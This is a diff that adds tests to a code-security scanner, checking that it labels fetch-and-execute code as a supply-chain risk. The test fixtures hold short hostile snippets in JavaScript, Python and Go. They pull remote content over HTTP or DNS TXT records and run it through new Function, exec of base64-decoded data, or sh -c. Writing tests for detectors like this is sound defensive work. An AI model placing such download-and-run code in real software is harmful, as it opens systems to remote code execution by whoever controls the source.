@@ -333,3 +333,31 @@ def test_download_saved_then_read_or_checked_is_clean():
     }
     for name, script in clean.items():
         assert "SC-01" not in _rules(scan({name: script}), name), name
+
+
+# --- downloaded code run: supply-chain, whichever check saw it run ----------------------------------
+
+def test_downloaded_code_run_is_counted_as_supply_chain():
+    variants = {
+        # JavaScript: the body gathered in https.get's callbacks, handed to new Function
+        "scripts/lib/warm.js": ("const https = require('https');\n"
+                                "function load(cb) { https.get(src, (res) => { let b = ''; res.on('data', (c) => (b += c)); res.on('end', () => cb(b)); }); }\n"
+                                "load((pack) => { const reg = new Function('require', 'process', pack); reg(require, process); });\n"),
+        # Python: the reply decoded and exec'd two lines later
+        "scripts/update.py": ("import urllib.request, base64\n"
+                              "raw = urllib.request.urlopen(FEED).read()\n"
+                              "exec(base64.b64decode(raw))\n"),
+        # Go: commands published as DNS TXT records, run by sh -c
+        "tools/feed/main.go": ("recs, _ := net.LookupTXT(host)\nfor _, r := range recs {\n"
+                               "  b, _ := base64.StdEncoding.DecodeString(r)\n"
+                               "  exec.Command(sh, \"-c\", string(b)).Start()\n}\n"),
+    }
+    for name, script in variants.items():
+        r = scan({name: script})
+        assert "supply-chain" in {f.category for f in r.findings if f.grades and f.file == name}, name
+
+
+def test_untrusted_input_run_without_a_download_is_not_supply_chain():
+    script = "import sys\nexpr = sys.argv[1]\nprint(eval(expr))\n"
+    r = scan({"scripts/calc.py": script})
+    assert "SC-01" not in _rules(r, "scripts/calc.py")
